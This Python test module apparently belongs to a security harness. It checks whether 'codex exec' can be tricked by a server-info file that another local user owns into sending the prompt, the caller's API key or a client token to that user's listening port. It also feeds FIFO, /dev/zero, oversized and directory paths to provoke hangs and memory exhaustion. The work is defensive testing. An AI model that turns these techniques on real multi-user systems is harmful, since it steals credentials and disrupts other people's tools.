"""`codex exec` is led to a stranger by a server-info file of his."""

import os
import subprocess
import time

from proxy import key_in
from stage import ALICE, STRANGER, Seen, free_port
from stranger_gateway import Stranger

NAME = "codex exec believes anybody's server-info file"

PROMPT = "the-secret-of-the-prompt"
API_KEY = "sk-proj-the-callers-own-key-0123456789abcdefghijklmno"
TIMEOUT = 4


def attack(stage):
    program = stage.chat
    home = stage.directory("home", 0o755, ALICE)
    for mode in (0o644, 0o666):
        for token in (None, "token-of-a-client-0123456789"):
            yield led_away(stage, program, home, mode, token)
    yield led_away(stage, program, home, 0o644, None, ["-c", "model_providers.local-proxy.env_key='OPENAI_API_KEY'"])
    yield through_environment(stage, program, home)
    public = stage.directory("public", 0o777)
    fifo = os.path.join(public, "fifo")
    os.mkfifo(fifo)
    os.chmod(fifo, 0o666)
    large = os.path.join(public, "large")
    with open(large, "wb") as out:
        out.write(b'{"port":1,"pid":1}' + b" " * 70_000)
    os.chown(large, ALICE, ALICE)
    huge = os.path.join(public, "huge")
    with open(huge, "wb") as out:
        out.truncate(8 << 30)
    os.chown(huge, ALICE, ALICE)
    for what, path in [("a FIFO", fifo), ("/dev/zero", "/dev/zero"), ("a file of 70 KB", large), ("a file of 8 GB", huge), ("a directory", public)]:
        yield trap(stage, program, home, what, path)


def run(stage, argv, home, env=(), seconds=TIMEOUT):
    """(exit status or None, what it said, its memory at most in MiB)."""
    process = stage.spawn(
        argv, uid=ALICE, env={"HOME": home, "OPENAI_API_KEY": API_KEY, **dict(env)}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, cwd=home
    )
    os.set_blocking(process.stdout.fileno(), False)
    deadline, most, said = time.monotonic() + seconds, 0, b""
    while process.poll() is None and time.monotonic() < deadline and most < 1024:
        with open(f"/proc/{process.pid}/status", encoding="ascii") as status:
            sizes = [int(line.split()[1]) for line in status if line.startswith("VmRSS")]
        most = max([most, *(size // 1024 for size in sizes)])
        said += process.stdout.read() or b""
        time.sleep(0.01)
    status = process.poll()
    if status is None:
        process.kill()
        process.wait()
    said += process.stdout.read() or b""
    return status, said.decode("utf-8", "replace").strip(), most


def write(stage, port, mode, token):
    path = os.path.join(stage.directory(f"shared-{time.monotonic_ns()}", 0o777), "info.json")
    with open(path, "w", encoding="ascii") as out:
        more = f',"client_token":"{token}"' if token else ""
        out.write(f'{{"port":{port},"pid":{os.getpid()}{more}}}\n')
    os.chown(path, STRANGER, STRANGER)
    os.chmod(path, mode)
    return path


def reached(got, what, status, said):
    has = [name for name, text in (("prompt", PROMPT), ("API key", API_KEY), ("client token", "token-of-a-client")) if text.encode() in got]
    if key_in(got, API_KEY) and "API key" not in has:
        has.append("a part of the API key")
    figure = f"he gets {len(got)} bytes" + (f": {', '.join(has)}" if has else "")
    if not got:
        figure += f"; exit {status}: {said.splitlines()[-1][:150] if said else ''}"
    return Seen(what, figure, bool(got) or status == 0)


def led_away(stage, program, home, mode, token, more=()):
    port = free_port()
    path = write(stage, port, mode, token)
    stranger = Stranger(stage, "127.0.0.1", port, 0.8)
    status, said, _ = run(stage, [program, "exec", *more, "--server-info", path, PROMPT], home, seconds=0.8)
    got, _ = stranger.got()
    return reached(got, f"--server-info of a stranger, mode {mode:04o}{', with a client token' if token else ''}{', with env_key' if more else ''}", status, said)


def through_environment(stage, program, home):
    port = free_port()
    path = write(stage, port, 0o644, None)
    stranger = Stranger(stage, "127.0.0.1", port, 0.8)
    status, said, _ = run(stage, [program, "exec", PROMPT], home, {"CODEX_PROXY_SERVER_INFO": path}, seconds=0.8)
    got, _ = stranger.got()
    return reached(got, "CODEX_PROXY_SERVER_INFO of a stranger", status, said)


def trap(stage, program, home, what, path):
    status, said, most = run(stage, [program, "exec", "--server-info", path, PROMPT], home)
    broken = status in (None, 0, 101) or most > 200 or status < 0
    figure = "hangs" if status is None and most < 1024 else f"{most} MiB and more" if most >= 1024 else f"exit {status}"
    if what.startswith("a file of 70") and not broken and "could not" in said.lower() and "connect" in said.lower():
        broken, figure = True, "read whole and believed"
    return Seen(what, f"{figure}: {said.splitlines()[-1][:150] if said else 'it says nothing'}", broken)
